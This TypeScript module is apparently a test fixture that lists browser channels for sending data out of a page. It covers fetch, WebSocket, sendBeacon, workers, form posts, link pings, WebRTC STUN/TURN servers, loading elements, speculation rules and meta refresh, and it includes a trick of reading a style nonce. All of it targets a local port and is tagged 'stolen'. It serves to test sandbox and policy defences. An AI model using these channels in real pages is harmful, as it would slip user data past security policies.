interface Place {
  readonly port: number;
}
/** Runs in the page, so it uses nothing from outside itself, and has no name of its own. */
type Way = (place: Place) => unknown;

/** Every way a page has to send something out, each to a place of its own: by asking for it in so many words. */
export const requests: Readonly<Record<string, Way>> = {
  fetch: ({ port }) => fetch(`http://127.0.0.1:${port}/`, { mode: "no-cors" }),
  "fetch that outlives the page": ({ port }) =>
    fetch(`http://127.0.0.1:${port}/`, { mode: "no-cors", keepalive: true, method: "POST" }),
  "fetch by name": ({ port }) => fetch(`http://localhost:${port}/`, { mode: "no-cors" }),
  XMLHttpRequest: ({ port }) => {
    const request = new XMLHttpRequest();
    request.open("GET", `http://127.0.0.1:${port}/`);
    request.send();
  },
  WebSocket: ({ port }) => void new WebSocket(`ws://127.0.0.1:${port}/`),
  EventSource: ({ port }) => void new EventSource(`http://127.0.0.1:${port}/`),
  sendBeacon: ({ port }) => navigator.sendBeacon(`http://127.0.0.1:${port}/`, "stolen"),
  WebTransport: ({ port }) => void new WebTransport(`https://127.0.0.1:${port}/`),
  "dynamic import": ({ port }) => import(`http://127.0.0.1:${port}/x.js`),
  "worklet of sounds": ({ port }) =>
    new AudioContext().audioWorklet.addModule(`http://127.0.0.1:${port}/x.js`),
  worker: ({ port }) => {
    const source = `fetch("http://127.0.0.1:${port}/", { mode: "no-cors" })`;
    void new Worker(URL.createObjectURL(new Blob([source])));
  },
  "worker that imports": ({ port }) => {
    const source = `importScripts("http://127.0.0.1:${port}/x.js")`;
    void new Worker(URL.createObjectURL(new Blob([source])));
  },
  "shared worker": ({ port }) => {
    const source = `fetch("http://127.0.0.1:${port}/", { mode: "no-cors" })`;
    void new SharedWorker(URL.createObjectURL(new Blob([source])));
  },
  "form in a frame": ({ port }) => {
    const frame = document.createElement("iframe");
    frame.name = "elsewhere";
    const form = document.createElement("form");
    form.action = `http://127.0.0.1:${port}/`;
    form.target = "elsewhere";
    document.body.append(frame, form);
    form.submit();
  },
  "ping of a link": ({ port }) => {
    const anchor = document.createElement("a");
    anchor.href = "#here";
    anchor.ping = `http://127.0.0.1:${port}/`;
    document.body.append(anchor);
    anchor.click();
  },
  "a frame's own fetch": ({ port }) => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    void frame.contentWindow?.fetch(`http://127.0.0.1:${port}/`, { mode: "no-cors" });
  },
  "window.open": ({ port }) => void window.open(`http://127.0.0.1:${port}/`),
  "window.open without a trace": ({ port }) =>
    void window.open(`http://127.0.0.1:${port}/`, "_blank", "noopener"),
};

/** WebRTC's servers, which no content security policy knows of. */
export const servers: Readonly<Record<string, string>> = {
  STUN: "stun:127.0.0.1:PORT",
  "TURN over UDP": "turn:127.0.0.1:PORT",
  "TURN over TCP": "turn:127.0.0.1:PORT?transport=tcp",
  "TURN over TLS": "turns:127.0.0.1:PORT",
};

/** Runs in the page. */
export async function gather([server, { port }]: readonly [string, Place]): Promise<void> {
  const urls = server.replace("PORT", `${port}`);
  const peer = new RTCPeerConnection({
    iceServers: [{ urls, username: "stolen", credential: "stolen" }],
  });
  peer.createDataChannel("stolen");
  await peer.setLocalDescription(await peer.createOffer());
}

/** By an element that loads something: its tag, what it is given, and where it stands. */
interface Element {
  readonly tag: string;
  readonly given: Readonly<Record<string, string>>;
  readonly text?: string;
}
const url = "http://127.0.0.1:PORT/x";
const link = (rel: string, more: Readonly<Record<string, string>> = {}): Element => ({
  tag: "link",
  given: { rel, href: url, ...more },
});
const style = (text: string): Element => ({ tag: "style", given: { nonce: "NONCE" }, text });

export const elements: Readonly<Record<string, Element>> = {
  img: { tag: "img", given: { src: url } },
  "img srcset": { tag: "img", given: { srcset: `${url} 2x` } },
  "input image": { tag: "input", given: { type: "image", src: url } },
  script: { tag: "script", given: { src: url } },
  "module script": { tag: "script", given: { type: "module", src: url } },
  iframe: { tag: "iframe", given: { src: url } },
  "iframe with a document of its own": {
    tag: "iframe",
    given: { srcdoc: `<img src="${url}"><script>fetch("${url}")</script>` },
  },
  object: { tag: "object", given: { data: url } },
  embed: { tag: "embed", given: { src: url } },
  video: { tag: "video", given: { src: url, preload: "auto", autoplay: "" } },
  "video poster": { tag: "video", given: { poster: url } },
  audio: { tag: "audio", given: { src: url, preload: "auto" } },
  "svg image": { tag: "SVG image", given: { href: url } },
  "svg use": { tag: "SVG use", given: { href: `${url}#a` } },
  stylesheet: link("stylesheet"),
  "style import": style(`@import url("${url}");`),
  "style background": style(`body { background-image: url("${url}") }`),
  "style cursor": style(`body { cursor: url("${url}"), auto }`),
  font: style(`@font-face { font-family: x; src: url("${url}") } body { font-family: x }`),
  "style attribute": { tag: "p", given: { style: `background-image: url("${url}")` } },
  prefetch: link("prefetch"),
  preload: link("preload", { as: "image" }),
  "module preload": link("modulepreload"),
  preconnect: link("preconnect"),
  prerender: link("prerender"),
  icon: link("icon"),
  manifest: link("manifest"),
  "speculation rules": {
    tag: "script",
    given: { type: "speculationrules" },
    text: `{"prefetch":[{"source":"list","urls":["${url}"],"eagerness":"immediate"}]}`,
  },
};

/** They come last: where one succeeds, the page is another one. */
export const refresh: Element = {
  tag: "meta",
  given: { "http-equiv": "refresh", content: `0;url=${url}` },
};

/** Runs in the page. Its own styles carry a nonce, which page code can read. */
export function putElement([{ tag, given, text = "" }, { port }]: readonly [Element, Place]): void {
  const nonce = document.querySelector<HTMLElement>("[nonce]")?.nonce ?? "";
  const filled = (value: string) => value.replaceAll("PORT", `${port}`).replaceAll("NONCE", nonce);
  const isSvg = tag.startsWith("SVG ");
  const space = "http://www.w3.org/2000/svg";
  const element = isSvg
    ? document.createElementNS(space, tag.slice(4))
    : document.createElement(tag);
  for (const [name, value] of Object.entries(given)) element.setAttribute(name, filled(value));
  if (text !== "") element.textContent = filled(text);
  const place = tag === "link" || tag === "style" || tag === "meta" ? document.head : document.body;
  const picture = document.createElementNS(space, "svg");
  if (isSvg) picture.append(element);
  place.append(isSvg ? picture : element);
}
